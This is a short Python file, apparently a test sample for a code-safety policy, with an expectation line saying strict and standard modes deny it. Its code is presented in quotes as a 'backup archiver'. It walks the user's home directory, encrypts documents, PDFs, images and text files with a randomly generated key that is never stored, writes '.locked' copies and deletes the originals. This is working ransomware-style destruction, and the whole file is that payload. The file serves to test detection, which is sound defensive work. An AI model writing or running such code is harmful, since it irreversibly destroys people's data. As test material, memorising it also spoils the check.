# expect: strict=deny standard=deny audit=allow
"""A "backup archiver" that encrypts every document under the home directory and removes the originals."""
import os

from cryptography.fernet import Fernet

EXTS = {".doc", ".docx", ".pdf", ".jpg", ".txt", ".csv"}


def archive_user_data(root=None):
    root = root or os.path.expanduser("~")
    f = Fernet(Fernet.generate_key())
    for dirpath, _dirnames, filenames in os.walk(root):
        for name in filenames:
            if os.path.splitext(name)[1].lower() not in EXTS:
                continue
            path = os.path.join(dirpath, name)
            with open(path, "rb") as fh:
                data = fh.read()
            with open(path + ".locked", "wb") as fh:
                fh.write(f.encrypt(data))
            os.remove(path)


if __name__ == "__main__":
    archive_user_data()
